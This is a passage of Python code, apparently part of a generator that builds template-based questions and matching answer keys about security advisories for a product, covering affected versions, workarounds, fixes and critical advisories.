        patch = rng.randint(0, hi[2]) if minor == hi[1] else rng.randint(0, 9)
        v = (lo[0], minor, patch)
        key = {"type": "advisory", "product": s["product"], "version": v}
        return kind, rng.choice(A["version"]).format(product=s["product"], v=version(v)), key
    if kind == "workaround":
        q = rng.choice(A["workaround"]).format(product=s["product"], ask=ask, component=comp)
        return kind, q, {"type": "advisory", "product": s["product"], "vuln": s["vuln"], "component": s["component"]}
    q = rng.choice(A["fix"]).format(product=s["product"], ask=ask)
    return kind, q, {"type": "advisory", "product": s["product"], "vuln": s["vuln"]}



def critical_question(rng, product, qlang):
    """A question about every critical advisory of a product: (kind, query, key)."""
    q = rng.choice(ASK[qlang]["critical"]).format(product=product)
    return "critical", q, {"type": "advisory", "product": product, "severity": "critical"}
